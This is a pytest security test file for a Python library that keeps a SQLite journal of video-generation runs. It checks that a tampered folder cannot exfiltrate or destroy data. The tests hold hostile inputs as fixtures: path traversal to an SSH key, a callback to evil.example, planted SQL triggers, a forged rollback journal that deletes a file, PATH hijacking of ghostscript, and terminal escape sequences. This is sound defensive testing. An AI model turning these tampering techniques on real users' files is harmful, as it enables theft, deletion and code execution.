"""A folder from a stranger: what its journal, its files and its links cannot bring about."""

from __future__ import annotations

import base64
import contextlib
import json
import logging
import os
import shutil
import sqlite3
import stat
import time
from contextlib import closing
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import wiro_widgets as ww
from tests.runs.fake_models import DEFAULTS, MODEL
from tests.runs.helpers import picture, rewrite, rows
from wiro_widgets.client import InputError, Output
from wiro_widgets.errors import LibraryError, WiroError
from wiro_widgets.library.database import Database
from wiro_widgets.library.journal import Journal
from wiro_widgets.library.leases import is_alive
from wiro_widgets.library.library import Library
from wiro_widgets.library.request import Draft, RunRequest, StoredInput
from wiro_widgets.runs.problems import problem_from

if TYPE_CHECKING:
    from tests.runs.fake_service import FakeService
    from tests.runs.fake_tasks import LifeTask

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----"
REQUEST = RunRequest("minimax/hailuo-2-3", {**DEFAULTS, "prompt": "The gull lifts off"})
FAILED = problem_from(WiroError("Not today."))


@pytest.fixture
def key_file(folder: Path) -> Path:
    """A file of the person's that nobody meant to send, beside the library."""
    path = folder / "id_rsa"
    path.write_bytes(SECRET)
    return path


@pytest.fixture
def journal(folder: Path) -> Journal:
    """A library with one run that waits to be sent; its owner is gone."""
    made = Journal(folder / "wiro-runs")
    made.reserve(REQUEST, "live", "nobody", fresh=False)
    return made


def evil(source: str) -> str:
    """A request that nobody here made: another model, a hook, and some file."""
    return json.dumps(
        {
            "model": "minimax/hailuo-2-3-fast",
            "parameters": {**DEFAULTS, "callbackUrl": "https://evil.example/hook"},
            "files": {"inputImage": [{"source": source, "identity": "0" * 64, "name": "a.png"}]},
            "repeat": 0,
        }
    )


def outside(folder: Path) -> list[str]:
    """Spellings of a path that leads out of the library."""
    return [
        "../id_rsa",
        "inputs/../../id_rsa",
        str(folder / "id_rsa"),
        "inputs/../id_rsa",
        "journal.sqlite",
        "clips/../inputs/a.png",
        "inputs",
        "inputs/",
        "inputs/sub/a.png",
        "\\\\host\\share\\a.png",
        "inputs/C:a.png",
        "inputs/a\0.png",
        "",
    ]


# What is sent


def test_a_row_that_claims_to_be_what_was_asked_for_does_not_change_what_is_sent(
    fake: FakeService, session: Any, journal: Journal, key_file: Path, folder: Path
) -> None:
    # The fingerprint is that of the cell below, as a stranger can compute it at home.
    rewrite(folder, "UPDATE runs SET request = ?", evil("../id_rsa"))
    run = ww.run("The gull lifts off", model=MODEL)
    (task,) = fake.wait_accepted(1)
    assert task.paid is not None
    assert task.paid.model.lower().endswith("hailuo-2-3")
    assert task.paid.parameters == {**DEFAULTS, "prompt": "The gull lifts off"}
    assert task.paid.inputs == {}
    assert run.prompt == "The gull lifts off"


def test_what_waits_in_a_strangers_journal_is_not_sent_by_looking_at_it(
    fake: FakeService, session: Any, journal: Journal, folder: Path
) -> None:
    assert [run.status for run in ww.history()] == ["queued"]
    ww.history()[0].look_again()
    assert not fake.paid
    assert rows(folder)[0]["status"] == "queued"


def test_an_input_whose_bytes_were_replaced_is_not_sent(
    fake: FakeService, session: Any, folder: Path
) -> None:
    (folder / "frame.png").write_bytes(picture())
    fake.auto = 0.01
    first = ww.run("Sent", model=MODEL, image="frame.png").wait(20)
    (stored,) = (folder / "wiro-runs" / "inputs").iterdir()
    stored.write_bytes(picture(red=90))
    run = first.send_again()
    with pytest.raises(
        InputError, match=r"inputImage: .* has other bytes than were recorded"
    ) as found:
        run.wait(20)
    assert found.value.spent == "no"
    assert len(fake.paid) == 1


def test_an_input_that_became_a_link_is_neither_sent_nor_shown(
    fake: FakeService, session: Any, key_file: Path, folder: Path
) -> None:
    (folder / "frame.png").write_bytes(picture())
    fake.auto = 0.01
    first = ww.run("Sent", model=MODEL, image="frame.png").wait(20)
    inputs = folder / "wiro-runs" / "inputs"
    (stored,) = inputs.iterdir()
    stored.unlink()
    stored.symlink_to(key_file)
    with pytest.raises(InputError, match="is missing"):
        first.send_again().wait(20)
    stored.unlink()
    inputs.rmdir()
    inputs.symlink_to(folder)
    (folder / stored.name).write_bytes(picture())
    with pytest.raises(InputError, match="is missing"):
        first.send_again().wait(20)
    assert len(fake.paid) == 1


def test_what_a_journal_adds_to_a_request_is_not_sent_again(
    fake: FakeService, session: Any, folder: Path
) -> None:
    fake.auto = 0.01
    ww.run("Sent", model=MODEL).wait(20)
    session.close()
    hook = '"parameters": {"callbackUrl": "https://evil.example/hook", '
    rewrite(folder, "UPDATE runs SET request = replace(request, ?, ?)", '"parameters": {', hook)
    with ww.connect(), pytest.raises(InputError, match="callbackUrl"):
        ww.history()[0].send_again()
    assert len(fake.paid) == 1


# What is read and shown


def test_no_path_of_a_journal_leads_out_of_its_folder(
    journal: Journal, folder: Path, caplog: pytest.LogCaptureFixture
) -> None:
    for source in outside(folder):
        rewrite(folder, "UPDATE runs SET request = ?", evil(source))
        assert Journal(journal.directory).records() == []
        assert "Run 1 in" in caplog.text
        assert "is no input of this library" in caplog.text
        caplog.clear()


def test_no_clip_of_a_journal_lies_outside_of_its_folder(
    fake: FakeService, session: Any, key_file: Path, folder: Path
) -> None:
    fake.auto = 0.01
    ww.run("Made", model=MODEL).wait(20)
    (folder / "wiro-runs" / "clips" / "link.mp4").symlink_to(key_file)
    for name in (*outside(folder), "clips/link.mp4", "inputs/a.mp4"):
        rewrite(folder, "UPDATE runs SET files = ?", json.dumps([name]))
        record = Library("wiro-runs").record(1)
        assert not record.whole
        session.close()
        session = ww.connect()
        (run,) = ww.history()
        assert run.snapshot["clips"][0]["name"].endswith(".mp4")
        assert run.videos == []


def test_a_poster_that_is_a_link_is_not_read(
    fake: FakeService, session: Any, key_file: Path, folder: Path
) -> None:
    (folder / "frame.png").write_bytes(picture())
    fake.auto = 0.01
    run = ww.run("Made", model=MODEL, image="frame.png").wait(20)
    (stored,) = (folder / "wiro-runs" / "inputs").iterdir()
    posters = folder / "wiro-runs" / "posters"
    posters.mkdir(exist_ok=True)
    poster = posters / f"{stored.stem}.jpg"
    poster.unlink(missing_ok=True)
    poster.symlink_to(key_file)
    shown = run.snapshot["poster"] or ""
    assert base64.b64encode(SECRET).decode()[:20] not in shown


@pytest.mark.parametrize("name", ["clips", "inputs"])
def test_nothing_is_written_through_a_link(
    fake: FakeService, session: Any, folder: Path, name: str
) -> None:
    target = folder / "autostart"
    target.mkdir()
    (folder / "wiro-runs").mkdir()
    (folder / "wiro-runs" / name).symlink_to(target)
    (folder / "frame.png").write_bytes(picture())
    fake.auto = 0.01
    with pytest.raises(LibraryError, match="is a link"):
        ww.run("Made", model=MODEL, image="frame.png").wait(20)
    assert list(target.iterdir()) == []


def test_nothing_is_paid_for_a_clip_that_has_no_place(
    fake: FakeService, session: Any, folder: Path
) -> None:
    (folder / "other disk").mkdir()
    (folder / "wiro-runs").mkdir()
    (folder / "wiro-runs" / "clips").symlink_to(folder / "other disk")
    with pytest.raises(LibraryError, match="Nothing was sent"):
        ww.run("Made", model=MODEL)
    assert not fake.paid


@pytest.mark.parametrize("content", [b"%!PS-Adobe-3.0 EPSF-3.0\n", b"GIF89a", b"\x89PNG\r\n\x1a\n"])
def test_an_input_that_is_no_picture_has_no_poster(
    fake: FakeService, session: Any, folder: Path, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "bin").mkdir()
    (folder / "bin" / "gs").write_text(f"#!/bin/sh\ntouch {folder}/ghostscript-ran\n")
    (folder / "bin" / "gs").chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}/bin:{os.environ['PATH']}")
    (folder / "frame.png").write_bytes(picture())
    fake.auto = 0.01
    ww.run("Made", model=MODEL, image="frame.png").wait(20)
    (stored,) = (folder / "wiro-runs" / "inputs").iterdir()
    shutil.rmtree(folder / "wiro-runs" / "posters", ignore_errors=True)
    other = stored.with_name("b.eps")
    other.write_bytes(content)
    rewrite(folder, "UPDATE runs SET request = replace(request, ?, 'b.eps')", stored.name)
    session.close()
    with ww.connect():
        assert ww.history()[0].snapshot["poster"] is None
    assert not (folder / "ghostscript-ran").exists()


def test_a_clip_is_called_what_a_clip_may_be_called(
    fake: FakeService, session: Any, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = ("x.desktop", "x." + "a" * 130, "x.html", "../x", "x.ipynb")
    output = fake._output

    def renamed(task: LifeTask, content: bytes) -> None:
        output(task, content)
        task.outputs[-1]["name"] = given[len(fake.accepted) - 1]

    monkeypatch.setattr(fake, "_output", renamed)
    fake.auto = 0.01
    for name in given:
        assert ww.run(f"Called {name[:9]}", model=MODEL).wait(20).video.suffix == ".mp4"
    names = [path.name for path in (folder / "wiro-runs" / "clips").iterdir()]
    assert len(set(names)) == 5


def test_clips_of_a_journal_that_was_deleted_are_not_written_over(
    fake: FakeService, session: Any, folder: Path
) -> None:
    clips = folder / "wiro-runs" / "clips"
    clips.mkdir(parents=True)
    old = clips / "0001-made.mp4"
    old.write_bytes(b"paid for")
    os.utime(old, (time.time() - 3600,) * 2)
    fake.auto = 0.01
    assert ww.run("Made", model=MODEL).wait(20).video.name == "0001-made-2.mp4"
    assert old.read_bytes() == b"paid for"


# The file


@pytest.mark.parametrize(
    ("statement", "named"),
    [
        (
            "CREATE TRIGGER plant AFTER INSERT ON runs BEGIN UPDATE runs SET model = 'x'; END",
            "a trigger 'plant'",
        ),
        ("CREATE VIEW latest AS SELECT * FROM runs", "a view 'latest'"),
        ("CREATE TABLE notes (text TEXT)", "a table 'notes'"),
        ("CREATE INDEX slow ON runs (prompt)", "an index 'slow'"),
        ("ALTER TABLE runs ADD COLUMN more TEXT", "a table 'runs'"),
    ],
)
def test_a_file_with_anything_that_is_not_ours_is_refused(
    journal: Journal, folder: Path, statement: str, named: str
) -> None:
    rewrite(folder, statement)
    for use in (Journal(journal.directory).records, lambda: ww.Library("wiro-runs").spent("live")):
        with pytest.raises(LibraryError, match="which is not of wiro_widgets") as found:
            use()
        assert named in str(found.value)


def written_schema(folder: Path, statement: str, *values: Any) -> None:
    """Change the schema in a way that SQL does not offer."""
    rewrite(folder, "PRAGMA user_version = 3")
    with closing(sqlite3.connect(folder / "wiro-runs" / "journal.sqlite")) as database, database:
        database.execute("PRAGMA writable_schema = ON")
        database.execute(statement, values)


TRIGGER = "CREATE TRIGGER plant BEFORE INSERT ON runs BEGIN UPDATE runs SET request = token; END"


@pytest.mark.parametrize("name", ["sqlite_stat4", "sqlite_sequence_2", "sqlite_autoindex_x"])
@pytest.mark.parametrize("as_bytes", [False, True])
def test_a_trigger_is_refused_whatever_it_is_called_and_however_it_is_kept(
    journal: Journal, folder: Path, name: str, as_bytes: bool
) -> None:
    written_schema(
        folder,
        "INSERT INTO sqlite_master VALUES ('trigger', ?, 'runs', 0, ?)",
        name,
        TRIGGER.encode() if as_bytes else TRIGGER,
    )
    with pytest.raises(LibraryError, match=r"a trigger .* not of wiro_widgets|cannot be used"):
        Journal(journal.directory).records()


def test_what_takes_for_ever_while_the_file_is_opened_is_ended(
    journal: Journal, folder: Path
) -> None:
    """SQLite reads the statistics of a file before anybody can look at what is in it."""
    with closing(sqlite3.connect(folder / "wiro-runs" / "journal.sqlite")) as database, database:
        database.execute("ANALYZE")
        rows = [("runs", None, number) for number in range(3000)]
        database.executemany("INSERT INTO sqlite_stat1 VALUES (?, ?, ?)", rows)
        database.execute("PRAGMA writable_schema = ON")
        database.execute(
            "UPDATE sqlite_master SET sql = 'CREATE TABLE sqlite_stat1(tbl, idx, seed,"
            " stat AS (hex(zeroblob(60000000 + seed))))' WHERE name = 'sqlite_stat1'"
        )
    began = time.monotonic()
    with pytest.raises(LibraryError):
        Journal(journal.directory).records()
    assert time.monotonic() - began < 20


def test_a_rollback_journal_has_no_other_file_deleted(journal: Journal, folder: Path) -> None:
    victim = folder / "thesis.docx"
    victim.write_bytes(b"years of work")
    name = str(victim).encode()
    record = b"\0" * 4 + name + len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big")
    side = folder / "wiro-runs" / "journal.sqlite-journal"
    side.write_bytes(b"\0" * 512 + record + bytes.fromhex("d9d505f920a163d7"))
    with pytest.raises(LibraryError, match="would have another file deleted"):
        Journal(journal.directory).records()
    assert victim.read_bytes() == b"years of work"


@pytest.mark.parametrize("suffix", ["-journal", "-wal", "-shm"])
def test_what_stands_beside_the_file_is_a_file_or_is_not_opened(
    journal: Journal, folder: Path, suffix: str, key_file: Path
) -> None:
    side = folder / "wiro-runs" / f"journal.sqlite{suffix}"
    os.mkfifo(side)
    with pytest.raises(LibraryError, match="is not a file itself"):
        Journal(journal.directory).records()
    side.unlink()
    side.symlink_to(key_file)
    with pytest.raises(LibraryError, match="is not a file itself"):
        Journal(journal.directory).records()
    assert key_file.read_bytes() == SECRET


@pytest.mark.parametrize(
    "statement", ["ANALYZE", "VACUUM", "REINDEX", 'ALTER TABLE runs RENAME TO "runs"']
)
def test_what_a_database_browser_does_is_no_offence(
    journal: Journal, folder: Path, statement: str
) -> None:
    with (
        contextlib.suppress(sqlite3.OperationalError),
        closing(
            sqlite3.connect(folder / "wiro-runs" / "journal.sqlite", isolation_level=None)
        ) as database,
    ):
        database.execute(statement)
    assert len(Journal(journal.directory).records()) == 1


def test_the_endless_view_of_a_stranger_is_refused_at_once(folder: Path) -> None:
    path = folder / "journal.sqlite"
    with closing(sqlite3.connect(path)) as database, database:
        database.execute(
            "CREATE VIEW runs AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"
            " SELECT x AS number FROM n"
        )
        database.execute("PRAGMA user_version = 3")
    with pytest.raises(LibraryError, match="a view 'runs'"), Database(path).reading():
        pass


def test_the_database_of_another_program_is_left_alone(folder: Path) -> None:
    other = folder / "places.sqlite"
    with closing(sqlite3.connect(other)) as database, database:
        database.execute("CREATE TABLE bookmarks (url TEXT)")
    before = other.read_bytes()
    (folder / "wiro-runs").mkdir()
    (folder / "wiro-runs" / "journal.sqlite").symlink_to(other)
    with pytest.raises(LibraryError, match="is not a file itself"):
        ww.Library("wiro-runs").spent("live")
    (folder / "wiro-runs" / "journal.sqlite").unlink()
    other.rename(folder / "wiro-runs" / "journal.sqlite")
    with pytest.raises(LibraryError, match="a table 'bookmarks'"):
        ww.Library("wiro-runs").spent("live")
    assert (folder / "wiro-runs" / "journal.sqlite").read_bytes() == before


BAD_ROWS = {
    "status": ["paused", "", b"\xff", 3],
    "service": ["elsewhere", 5, b"live"],
    "request": ["", "{", "[]", "null", b"\x00\xff", "9" * 5000, "[" * 100_000, '{"model": 3}'],
}
ODD_ROWS = {
    "created": [1e300, "yesterday", -5, b"x"],
    "ended": [1e300, "never", b"x"],
    "sent_at": ["x", float("inf")],
    "cost": ["1e-999999999", "a lot", b"1", 5],
    "problem": ["{", "[]", "7", '{"kind": 5, "detail": ["x"]}', "[" * 100_000],
    "outputs": ["{", "{}", "[1, null, {}]", json.dumps([{}] * 5000), "[" * 100_000],
    "files": ["{", "{}", "[1, null, {}]", json.dumps(["clips/a.mp4"] * 5000)],
    "state": [
        "{",
        "[]",
        json.dumps({"log": ["x" * 3_000_000]}),
        '{"stages": 5, "log": {"a": 1}, "progress": "x", "log_total": []}',
    ],
    "owner": ["a|b|c", "|" * 100, f"||{'9' * 5000}", b"\xff", 7],
    "lease": ["x", float("inf"), 1e300, b""],
    "task_id": [b"\xff", 7, "\x1b[31m"],
    "token": [b"\xff", 7],
    "prompt": [b"\xff", 7, "\x1b]52;c;eA==\x07"],
    "model": [b"\xff", 7, ""],
    "cost_e12": [2**62, "x", 1.5, -(2**62)],
    "unsettled": ["x", 5, b"\xff"],
    "seconds": ["x", b"\xff", float("inf")],
}
"""What SQLite keeps in a column of ours when it is told to."""


def filled(folder: Path, count: int = 3) -> Library:
    """A library of some runs that ended."""
    journal = Journal(folder / "wiro-runs")
    for number in range(count):
        request = RunRequest(REQUEST.model, {**REQUEST.parameters, "prompt": f"Take {number}"})
        record, _ = journal.reserve(request, "live", "nobody", fresh=False)
        journal.end(record.number, "failed", state={}, problem=FAILED)
    return Library(journal)


@pytest.mark.parametrize("column", BAD_ROWS)
def test_a_row_that_cannot_be_read_is_named_and_the_others_go_on(
    folder: Path, column: str, caplog: pytest.LogCaptureFixture
) -> None:
    filled(folder)
    for value in BAD_ROWS[column]:
        rewrite(folder, f"UPDATE runs SET {column} = ? WHERE number = 2", value)
        library = Library("wiro-runs")
        assert [record.number for record in library.records()] == [3, 1]
        assert library.spent("live").settled == 0
        with pytest.raises(LibraryError, match=r"Run 2 in .* cannot be read"):
            library.record(2)
        assert [one.levelno for one in caplog.records] == [logging.WARNING]
        caplog.clear()


@pytest.mark.parametrize("column", ODD_ROWS)
def test_odd_values_of_a_journal_hide_no_run(
    fake: FakeService, session: Any, folder: Path, column: str
) -> None:
    filled(folder)
    for value in ODD_ROWS[column]:
        rewrite(folder, f"UPDATE runs SET {column} = ? WHERE number = 2", value)
        for show in (repr, lambda history: history._repr_html_()):
            text = show(ww.history())
            assert "Take 1" in text or column == "request"
            assert "\x1b" not in text
            assert "\x07" not in text
        (session.library.spent("live"), session.library.prompts(), session.library.recent_models())
        session.library.typical_seconds(REQUEST.model, {}, "live")
        json.dumps(ww.history()[1].snapshot).encode()
    assert not fake.paid


def test_rows_that_cannot_be_read_hide_no_others(
    fake: FakeService, session: Any, folder: Path, caplog: pytest.LogCaptureFixture
) -> None:
    filled(folder, 80)
    rewrite(folder, "UPDATE runs SET request = '{' WHERE number > 10")
    assert len(ww.history(limit=5)) == 5
    assert len(ww.history()) == 10
    assert 10 < len(caplog.records) < 30, "each is named, but not thousands of them"


def test_a_journal_of_an_earlier_format_is_migrated_whatever_is_in_it(folder: Path) -> None:
    script = (Path(__file__).parent / "journal_format_2.sql").read_text()
    odd: list[Any] = ["{", "[]", "7", "null", b"\xff", "[" * 100_000]
    odd += ['{"cost": "1e-999999999", "stages": [5], "ended": "x", "clips": [null], "problem": 3}']
    for number, value in enumerate(odd):
        path = folder / str(number) / "journal.sqlite"
        path.parent.mkdir()
        with closing(sqlite3.connect(path)) as database, database:
            database.executescript(script)
            database.execute("UPDATE runs SET snapshot = ?, clips = ?", (value, value))
        assert Library(path.parent).records(), value


def test_a_judgment_or_vote_of_a_stranger_is_read_as_far_as_it_can_be(folder: Path) -> None:
    library = filled(folder)
    library.judge(1, note="mine")
    library.vote(1, 2, "left")
    rewrite(folder, "UPDATE judgments SET rating = ?, tags = '{', note = ?", 9**9, "x" * 9_000_000)
    rewrite(folder, "UPDATE votes SET outcome = 'everything'")
    assert library.judgment(1).rating == 0
    assert library.judgment(1).tags == ()
    assert len(library.judgment(1).note) == 4000
    assert library.votes() == []


def test_sums_of_a_stranger_do_not_run_over(folder: Path) -> None:
    library = filled(folder, 12)
    rewrite(folder, "UPDATE runs SET cost_e12 = ?", 2**62)
    assert library.spent("live").settled > 0


def test_a_lease_without_end_keeps_nobody_waiting() -> None:
    assert not is_alive("another machine|1|1|1", time.time() + 1e9)
    assert is_alive("another machine|1|1|1", time.time() + 20)


# The draft


@pytest.mark.parametrize("text", ["[" * 100_000, "9" * 5000, '{"image": {"source": "../id_rsa"}}'])
def test_a_draft_of_a_stranger_is_shown_and_reads_nothing(
    folder: Path, key_file: Path, text: str
) -> None:
    (folder / "draft.json").write_text(text)
    assert Draft.load(folder) == Draft()


def test_a_draft_that_is_a_link_or_a_pipe_is_not_opened(folder: Path, key_file: Path) -> None:
    (folder / "draft.json").symlink_to(key_file)
    assert Draft.load(folder) == Draft()
    (folder / "draft.json").unlink()
    os.mkfifo(folder / "draft.json")
    assert Draft.load(folder) == Draft()


# Who can read it


def modes(folder: Path) -> dict[str, int]:
    return {
        path.relative_to(folder).as_posix(): stat.S_IMODE(path.lstat().st_mode)
        for path in folder.rglob("*")
    }


def test_nobody_else_can_read_what_is_written(
    fake: FakeService, session: Any, folder: Path
) -> None:
    old = os.umask(0)
    try:
        (folder / "frame.png").write_bytes(picture())
        fake.auto = 0.01
        run = ww.run("Made", model=MODEL, image="frame.png").wait(20)
        assert run.snapshot["poster"]
        Draft("minimax/hailuo-2-3", "Words").save(folder / "wiro-runs")
    finally:
        os.umask(old)
    found = modes(folder / "wiro-runs")
    assert {
        "journal.sqlite",
        ".gitignore",
        "draft.json",
        "inputs",
        "clips",
        "posters",
    } <= found.keys()
    assert not {name: oct(mode) for name, mode in found.items() if mode & 0o077}
    assert stat.S_IMODE((folder / "wiro-runs").stat().st_mode) == 0o700


def test_a_folder_that_others_could_read_is_closed_to_them(
    fake: FakeService, session: Any, folder: Path
) -> None:
    fake.auto = 0.01
    ww.run("Made", model=MODEL).wait(20)
    session.close()
    for path in [folder / "wiro-runs", *(folder / "wiro-runs").rglob("*")]:
        path.chmod(0o777 if path.is_dir() else 0o666)
    with ww.connect():
        ww.run("Made again", model=MODEL).wait(20)
    found = modes(folder / "wiro-runs")
    assert found["journal.sqlite"] == 0o600
    assert found["clips"] == 0o700
    assert stat.S_IMODE((folder / "wiro-runs").stat().st_mode) == 0o700


def test_a_folder_that_a_group_shares_stays_shared(folder: Path) -> None:
    shared = folder / "wiro-runs"
    shared.mkdir()
    shared.chmod(0o2770)
    journal = Journal(shared)
    journal.reserve(REQUEST, "live", "nobody", fresh=False)
    journal.database.close()
    (shared / "journal.sqlite").chmod(0o660)
    assert len(Journal(shared).records()) == 1
    assert stat.S_IMODE(shared.stat().st_mode) == 0o2770
    assert stat.S_IMODE((shared / "journal.sqlite").stat().st_mode) == 0o660


def test_a_folder_that_is_kept_from_writing_stays_so(folder: Path) -> None:
    filled(folder)
    kept = folder / "wiro-runs"
    (kept / "journal.sqlite").chmod(0o444)
    kept.chmod(0o555)
    try:
        assert len(Library(kept).records()) == 3
        assert stat.S_IMODE(kept.stat().st_mode) == 0o500
        assert stat.S_IMODE((kept / "journal.sqlite").stat().st_mode) == 0o400
    finally:
        kept.chmod(0o700)


def test_a_project_that_somebody_keeps_runs_in_is_left_as_it_is(folder: Path) -> None:
    project = folder / "project"
    project.mkdir(mode=0o755)
    (project / "main.py").write_text("print()")
    for _ in range(2):
        Journal(project).reserve(REQUEST, "live", "nobody", fresh=True)
    assert stat.S_IMODE(project.stat().st_mode) == 0o755
    assert stat.S_IMODE((project / "journal.sqlite").stat().st_mode) == 0o600
    assert not (project / ".gitignore").exists()


def test_git_ignores_the_folder_unless_somebody_says_otherwise(folder: Path) -> None:
    filled(folder)
    ignore = folder / "wiro-runs" / ".gitignore"
    assert "*" in ignore.read_text().splitlines()
    ignore.write_text("# all of it is to be kept\n")
    Library("wiro-runs").records()
    assert ignore.read_text() == "# all of it is to be kept\n"


# What a person types


def test_half_an_emoji_is_refused_by_name(fake: FakeService, session: Any, folder: Path) -> None:
    with pytest.raises(InputError, match="prompt has half of a character at position 5") as found:
        ww.run("Gull \ud83d", model=MODEL)
    assert found.value.field == "prompt"
    assert not fake.paid


def test_stored_inputs_and_outputs_say_what_they_are(folder: Path) -> None:
    one = StoredInput.from_json(
        {"source": "https://example.org/a.png", "identity": "x", "name": "a\x1b[31m.png"}, folder
    )
    assert one.checked_source("image") == "https://example.org/a.png"
    assert "\x1b" not in one.name
    assert Output("a", "", 0, "", "").url == ""


def test_a_clip_behind_a_link_says_why_it_is_not_shown(
    fake: FakeService, session: Any, folder: Path
) -> None:
    fake.auto = 0.01
    ww.run("Made", model=MODEL).wait(20)
    session.close()
    clips = folder / "wiro-runs" / "clips"
    clips.rename(folder / "other disk")
    clips.symlink_to(folder / "other disk")
    assert ww.history()[0].clip_path(0) is None
    with ww.connect():
        (run,) = ww.history()
        assert run.videos == []
        assert run.snapshot["notice"] == (
            f"0001-made.mp4 is not shown, since links in {clips} are not followed."
        )


def test_a_draft_that_cannot_be_kept_says_so_and_nothing_else(folder: Path) -> None:
    (folder / "draft.json").mkdir()
    with pytest.raises(LibraryError, match=r"draft\.json cannot be used"):
        Draft("minimax/hailuo-2-3", "Words").save(folder)
    assert Draft.load(folder) == Draft()
